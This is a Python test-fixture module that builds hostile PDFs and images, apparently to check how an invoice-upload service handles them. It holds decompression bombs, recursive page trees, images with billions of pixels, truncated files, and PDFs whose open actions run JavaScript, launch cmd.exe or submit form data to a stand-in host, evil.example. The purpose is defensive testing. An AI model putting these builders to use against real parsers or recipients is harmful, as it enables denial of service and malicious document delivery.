"""Files that are made to do harm, each as small as it goes, built here and not downloaded."""

import io
import struct
import zlib
from typing import Any

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

FONT = b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R" + FONT + b">>"
LARGE_IMAGE = b"/Type/XObject/Subtype/Image/Width 95000/Height 95000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
SMALL_PRINT = b"BT /F 4 Tf %d %d Td (Factuur) Tj ET "
WORDS = b"BT /F 12 Tf 72 700 Td (Factuur) Tj ET"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, of which the first is the catalogue."""
    body, places = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, item in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table, many = len(body), len(objects) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % many + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(body + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (many, trailer, table))


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def packed(mark: bytes, times: int) -> bytes:
    """Return a mark that is said so often, compressed, without ever holding or packing the whole: a full flush ends a block that can be repeated."""
    packer, many, check = zlib.compressobj(9, wbits=-zlib.MAX_WBITS), 100_000, 1
    block = packer.compress(mark * many) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(times // many):
        check = zlib.adler32(mark * many, check)
    return b"\x78\xda" + block * (times // many) + packer.flush() + struct.pack(">I", check)


def with_content(content: bytes) -> bytes:
    return pdf(CATALOGUE, TREE, PAGE, content)


def with_page(page: bytes) -> bytes:
    return pdf(CATALOGUE, TREE, page, stream(zlib.compress(WORDS)))


def of_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"] * count)


DOCUMENTS = {
    "a program under a document's head": b"%PDF-1.7\n1 0 obj\nMZ" + bytes(500),
    "nothing but an end": b"%PDF-1.7\n%%EOF",
    "500 MB in half a megabyte": with_content(stream(packed(b" ", 500_000_000))),
    "twice packed": with_content(stream(zlib.compress(packed(b" ", 500_000_000), 9), b"/Filter[/FlateDecode/FlateDecode]")),
    "a tree of pages that bites its tail": pdf(CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "pages that are each other's parents": pdf(
        CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 2>>", b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 2>>"
    ),
    "an outline without end": pdf(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>", TREE, PAGE, stream(zlib.compress(WORDS)), b"<</First 5 0 R/Next 5 0 R/Title(x)>>"
    ),
    "a table of places that names itself": with_page(PAGE).replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 500"),
    "200,000 children": pdf(CATALOGUE, b"<</Type/Pages/Kids[" + b"3 0 R " * 200_000 + b"]/Count 200000>>", PAGE, stream(zlib.compress(WORDS))),
    "2,147,483,648 pages by its own count": with_page(PAGE).replace(b"/Count 1", b"/Count 2147483648"),
    "2,147,483,648 bytes by its own count": with_page(PAGE).replace(b"/Length ", b"/Length 2147483648 % "),
    "5,000 boxes in each other": with_page(PAGE[:-2] + b"/X " + b"<</X " * 5_000 + b"1" + b">>" * 5_000 + b">>"),
    "5,000 lists in each other": with_page(PAGE[:-2] + b"/X " + b"[" * 5_000 + b"]" * 5_000 + b">>"),
    "10,001 pages": of_pages(10_001),
    "a page without size": with_page(PAGE.replace(b"[0 0 600 800]", b"[0 0 0 0]")),
    "a page of less than nothing": with_page(PAGE.replace(b"[0 0 600 800]", b"[0 0 -600 -800]")),
    "a page for giants": with_page(PAGE.replace(b"[0 0 600 800]", b"[0 0 1000000 1000000]")),
    "a picture of 9,000,000,000 dots": pdf(
        CATALOGUE,
        TREE,
        PAGE.replace(FONT, b"/Resources<</XObject<</I 5 0 R>>>>"),
        stream(zlib.compress(b"600 0 0 800 0 0 cm /I Do")),
        stream(packed(b"\xff", 1_000_000), LARGE_IMAGE),
    ),
    "20,000 words on a page": with_content(stream(zlib.compress(b"".join(SMALL_PRINT % (n % 40 * 15, n // 40) for n in range(20_000))))),
}  # fmt: skip
"""Documents that no reader may take for one that can be judged."""


def chunk(name: bytes, held: bytes) -> bytes:
    return struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held))


def png(*chunks: bytes, width: int = 400, height: int = 100, depth: int = 1) -> bytes:
    """Return a grey PNG with these chunks before its pixels."""
    row = (width * depth + 7) // 8 + 1
    pixels = zlib.compress((b"\0" + b"\xff" * (row - 1)) * min(height, 1000), 9)
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(chunks) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def saved(form: str, mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (400, 100), "white").save(out, form, **options)
    return out.getvalue()


def huge_jpeg() -> bytes:
    """Return a JPEG that says of itself that it is 65,500 dots wide and high."""
    data = saved("JPEG")
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", 65_500, 65_500) + data[place + 4 :]


PICTURES: dict[str, tuple[bytes, str, set[str | None]]] = {
    "a PNG of 2,500,000,000 dots": (png(width=50_000, height=50_000), "image/png", {"oversized"}),
    "a JPEG of 4,290,250,000 dots": (huge_jpeg(), "image/jpeg", {"oversized", "malformed_file"}),
    "a PNG with 200 MB of remarks": (png(chunk(b"zTXt", b"x\0\0" + packed(b"x", 200_000_000))), "image/png", {"malformed_file", None}),
    "a PNG with a colour profile of 200 MB": (png(chunk(b"iCCP", b"x\0\0" + packed(b"x", 200_000_000))), "image/png", {"malformed_file", None}),
    "half a JPEG": (saved("JPEG")[:400], "image/jpeg", {"malformed_file"}),
    "half a PNG": (png(height=900)[:-40], "image/png", {"malformed_file"}),
    "half a WebP": (saved("WEBP", lossless=True)[:30], "image/webp", {"malformed_file"}),
    "half a TIFF": (saved("TIFF")[:50], "image/tiff", {"malformed_file"}),
}
"""Pictures, their types, and what may become of them."""

HARMLESS_PICTURES = {
    "16 bits": (png(depth=16), "image/png"),
    "moving": (saved("PNG", save_all=True, append_images=[Image.new("RGB", (400, 100), "grey")]), "image/png"),
    "progressive": (saved("JPEG", progressive=True), "image/jpeg"),
    "four inks": (saved("JPEG", "CMYK"), "image/jpeg"),
    "60 kB of remarks": (saved("JPEG", comment=b"x" * 60_000), "image/jpeg"),
    "EXIF that nobody can read": (saved("JPEG", exif=b"Exif\0\0" + b"\xff" * 200), "image/jpeg"),
    "a page of HTML behind it": (saved("JPEG") + b"<html><script>alert(1)</script>", "image/jpeg"),
}


def doing(kind: str) -> bytes:
    """Return a PDF that would do something when it is opened."""
    writer, out = pypdf.PdfWriter(clone_from=io.BytesIO(with_page(PAGE))), io.BytesIO()
    name = NameObject
    actions: dict[str, dict[Any, Any]] = {
        "javascript": {name("/S"): name("/JavaScript"), name("/JS"): TextStringObject("app.alert(1)")},
        "launch": {name("/S"): name("/Launch"), name("/F"): TextStringObject("cmd.exe")},
        "submit": {name("/S"): name("/SubmitForm"), name("/F"): TextStringObject("https://evil.example")},
        "opens": {name("/S"): name("/URI"), name("/URI"): TextStringObject("https://evil.example")},
        "embedded": {name("/S"): name("/GoToE"), name("/T"): DictionaryObject()},
    }
    if kind in actions:
        writer.root_object[name("/OpenAction")] = DictionaryObject(actions[kind])
    elif kind == "program":
        writer.add_attachment("factuur.exe", b"MZ" + bytes(100))
    else:
        writer.root_object[name("/AcroForm")] = DictionaryObject({name("/XFA"): TextStringObject("<x/>")})
    writer.write(out)
    return out.getvalue()
